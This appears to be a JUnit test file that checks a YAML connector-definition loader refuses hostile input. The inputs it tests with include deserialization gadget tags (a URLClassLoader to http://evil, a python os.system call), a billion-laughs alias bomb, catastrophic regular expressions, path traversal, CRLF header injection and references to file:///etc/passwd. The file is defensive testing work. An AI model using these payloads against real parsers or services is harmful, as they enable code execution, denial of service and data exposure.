package dev.toolpost.connectors;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.time.Duration;
import java.util.List;
import java.util.Objects;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.json.JsonMapper;

@Timeout(30)
class HostileDefinitionTest {
    private static final ConnectorLoader LOADER = new ConnectorLoader();

    @ParameterizedTest
    @ValueSource(
            strings = {
                "vendor: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil\"]]]]",
                "vendor: !ruby/object:Gem::Installer x",
                "vendor: !!python/object/apply:os.system ['id']",
                "!!str vendor: acme",
                "vendor: !!binary aGVsbG8=",
                "!foo {vendor: acme}",
                "- !local [1]",
            })
    void refusesTags(String text) {
        assertThat(problem(text)).contains("the tag ").contains("is not accepted");
    }

    @Test
    void refusesABillionLaughs() {
        StringBuilder text = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
        for (int i = 1; i < 20; i++) {
            String before = "*a" + (i - 1);
            text.append("a").append(i).append(": &a").append(i).append(" [");
            text.append(String.join(", ", List.of(before, before, before, before, before, before, before, before)));
            text.append("]\n");
        }

        assertThat(problem(text.toString()))
                .contains("more than 200000 values, aliases counted as what they stand for");
    }

    @Test
    void refusesMoreAliasesThanAnybodyWrites() {
        String text = "a: &a x\nb: [" + "*a, ".repeat(1_001) + "*a]";

        assertThat(problem(text)).contains("more than 1000 aliases");
    }

    @Test
    void refusesAnAliasInsideItsOwnAnchor() {
        assertThat(problem("a: &a [1, *a]")).contains("the alias *a stands inside its own anchor");
        assertThat(problem("a: &a { b: *a }")).contains("the alias *a stands inside its own anchor");
    }

    @Test
    void refusesAnAliasWithoutAnchor() {
        assertThat(problem("a: *nothing")).contains("the alias *nothing names no anchor above it");
    }

    @ParameterizedTest
    @ValueSource(ints = {65, 1_000, 100_000})
    void refusesDepth(int depth) {
        assertThat(problem("a: " + "[".repeat(depth))).contains("nested deeper than 64 levels");
        assertThat(problem("{a: ".repeat(depth))).contains("nested deeper than 64 levels");
    }

    @Test
    void refusesDepthByIndentation() {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < 500; i++) {
            text.repeat(" ", i).append("a:\n");
        }

        assertThat(problem(text.toString())).contains("nested deeper than 64 levels");
    }

    @Test
    void refusesSize() {
        assertThat(problem("a: " + "x".repeat(2 << 20))).contains("characters (expected: at most 1048576)");
        assertThat(problem("[" + "1,".repeat(250_000) + "1]")).contains("more than 200000 values");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "# nothing\n",
                "a: b: c",
                "a:\n\t- b",
                "'unclosed",
                "{",
                "]",
                "a: 1\na: 2",
                "a: 1\n---\nb: 2",
                "? [complex, key]\n: 1",
                "&k a: 1",
                "a: .inf",
                "%YAML 3.0\n---\na: 1",
                "\u0000",
                "a: \"\\ud800\"",
                "just text",
                "[1, 2]",
                "null",
            })
    void refusesWhatIsNoDefinition(String text) {
        assertThat(problem(text)).startsWith("hostile.yaml:").contains(": error: ");
    }

    @Test
    void namesBothPlacesOfAKeyThatStandsTwice() {
        assertThat(problem("vendor: a\ntitle: b\nvendor: c"))
                .startsWith("hostile.yaml:3:1: error: the key vendor stands twice (first in line 1)");
    }

    @Test
    void readsYesAndNoAndVersionsAsText() {
        Connector connector = LOADER.load(
                "acme.yaml", Definitions.acme("Acme-Version: \"2\"", "Acme-Version: 2026-01-01\n  Acme-Mode: no"));

        assertThat(connector.headers())
                .containsEntry("Acme-Version", "2026-01-01")
                .containsEntry("Acme-Mode", "no");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "https://{subdomain}",
                "https://{subdomain}/api",
                "https://{subdomain}.example",
                "https://{subdomain}evil.com/api",
                "https://acme.example.{subdomain}/api",
                "https://acme.example:{subdomain}/api",
                "https://user@{subdomain}.acme.example/",
                "https://user:secret@acme.example/",
                "http://{subdomain}.acme.example/",
                "ftp://{subdomain}.acme.example/",
                "{subdomain}.acme.example",
                "https://acme.example/{subdomain}",
                "https://acme.example/?a={subdomain}",
                "https://acme.example/#x",
                "https://acme.example/a?b=c",
                "https://{unknown}.acme.example/",
                "https://{subdomain.acme.example/",
                "https://",
                "https:///x",
                "file:///etc/passwd",
            })
    void refusesABaseUrlThatAValueCouldMove(String url) {
        String text = Definitions.acme("https://{subdomain}.acme.example/api", "'" + url + "'");

        assertThat(problem(text)).startsWith("hostile.yaml:3:11: error: ");
    }

    @Test
    void refusesReferencesThatLeaveTheSchema() {
        assertThat(problem(withArgument("{ $ref: \"https://evil.example/schema.json\" }")))
                .contains("leads outside the schema");
        assertThat(problem(withArgument("{ $ref: \"file:///etc/passwd\" }"))).contains("leads outside the schema");
        assertThat(problem(withArgument("{ $ref: other.json }"))).contains("leads outside the schema");
        assertThat(problem(withArgument("{ $id: \"https://evil.example/\", $ref: \"#\" }")))
                .contains("$id is not accepted");
        assertThat(problem(withArgument("{ $dynamicRef: \"#x\" }"))).contains("$dynamicRef is not accepted");
        assertThat(problem(withArgument("{ $ref: \"#/$defs/none\" }"))).contains("names nothing");
    }

    @Test
    void refusesReferencesInACircleThatConsumesNothing() {
        assertThat(problem(withArgument("{ $ref: \"#/properties/id\" }"))).contains("in a circle that never ends");
        assertThat(problem(withArgument("{ allOf: [{ anyOf: [{ $ref: \"#/properties/id\" }] }] }")))
                .contains("in a circle that never ends");
    }

    @Test
    void boundsTheDepthOfARecursiveSchema() {
        String recursive = "{ tree: { type: object, properties: { sub: { $ref: \"#/$defs/tree\" } } } }";
        String text = Definitions.acme(
                        "id: { type: string, description: \"Id of the thing, for example T-7.\" }",
                        "id: { type: string, description: Id }\n        tree: { $ref: \"#/$defs/tree\" }")
                .replace("      required: [id]\n", "      required: [id]\n      $defs: " + recursive + "\n");
        ArgumentValidator validator = new ArgumentValidator(
                Objects.requireNonNull(LOADER.load("acme.yaml", text).tools().get("acme_get_thing")));

        assertThat(validator.validate(JsonMapper.shared().readTree(nested(50)))).isEmpty();
        assertThat(validator.validate(JsonMapper.shared().readTree(nested(100))))
                .singleElement()
                .satisfies(problem -> assertThat(problem.message()).contains("nested deeper than 64 levels"));
    }

    private static String nested(int depth) {
        return "{\"id\": \"1\", \"tree\": " + "{\"sub\":".repeat(depth) + "{}" + "}".repeat(depth) + "}";
    }

    @Test
    void refusesExpressionsThatOnlyBacktrackingCouldMatch() {
        assertThat(problem(withArgument("{ type: string, pattern: \"(a)\\\\1\" }")))
                .contains("pattern '(a)\\1'");
        assertThat(problem(withArgument("{ type: string, pattern: \"(?=a)b\" }")))
                .contains("pattern '(?=a)b'");
        assertThat(problem(Definitions.acme("(?i)^quota", "(?<=x)y"))).contains("pattern '(?<=x)y'");
        assertThat(problem(withArgument("{ type: object, patternProperties: { \"(?!x)\": true } }")))
                .contains("pattern '(?!x)'");
    }

    @Test
    void matchesACatastrophicExpressionInNoTime() {
        TextPattern pattern = TextPattern.compile("^(a+)+(b|b)*(.*)*$x");
        long before = System.nanoTime();

        assertThat(pattern.foundIn("a".repeat(100_000) + "!")).isFalse();
        assertThat(Duration.ofNanos(System.nanoTime() - before)).isLessThan(Duration.ofSeconds(5));
    }

    @Test
    void validatesArgumentsWithACatastrophicExpressionInNoTime() {
        String text = withArgument("{ type: string, pattern: \"^(([a-z])+.)+[A-Z]([a-z])+$\", description: An id. }");
        ArgumentValidator validator = new ArgumentValidator(
                Objects.requireNonNull(LOADER.load("acme.yaml", text).tools().get("acme_get_thing")));
        var arguments = JsonMapper.shared().createObjectNode().put("id", "a".repeat(50_000));

        assertThat(validator.validate(arguments)).hasSize(1);
    }

    @Test
    void refusesPathsThatClimb() {
        assertThat(problem(Definitions.acme("path: /things/{id}", "path: /things/../admin/{id}")))
                .contains("the path holds the segment ..");
        assertThat(problem(Definitions.acme("path: /things/{id}", "path: things/{id}")))
                .contains("request.path");
        assertThat(problem(Definitions.acme("path: /things/{id}", "path: /things/{id}?admin=1")))
                .contains("request.path");
        assertThat(problem(Definitions.acme("path: /things/{id}", "path: \"/things\\r\\nHost: evil/{id}\"")))
                .contains("request.path");
    }

    @Test
    void refusesHeaderValuesWithLineBreaks() {
        assertThat(problem(Definitions.acme("Acme-Version: \"2\"", "Acme-Version: \"2\\r\\nX: y\"")))
                .contains("headers.Acme-Version");
        assertThat(problem(Definitions.acme("Acme-Version: \"2\"", "\"Acme:Version\": \"2\"")))
                .contains("the name 'Acme:Version'");
        assertThat(problem(Definitions.acme("X-Thing: thing-{id}", "X-Thing: \"a\\nb\"")))
                .contains("headers.X-Thing");
    }

    @Test
    void everyProblemHasItsPlace() {
        assertThatThrownBy(() -> LOADER.load("hostile.yaml", "vendor: [\ntitle: x"))
                .isInstanceOfSatisfying(
                        ConnectorException.class,
                        e -> assertThat(e.problems())
                                .allSatisfy(
                                        problem -> assertThat(problem.line()).isPositive()));
    }

    private static String withArgument(String schema) {
        return Definitions.acme(
                "id: { type: string, description: \"Id of the thing, for example T-7.\" }", "id: " + schema);
    }

    private static String problem(String text) {
        try {
            LOADER.load("hostile.yaml", text);
        } catch (ConnectorException e) {
            return String.valueOf(e.getMessage());
        }
        throw new AssertionError("accepted: " + text);
    }
}
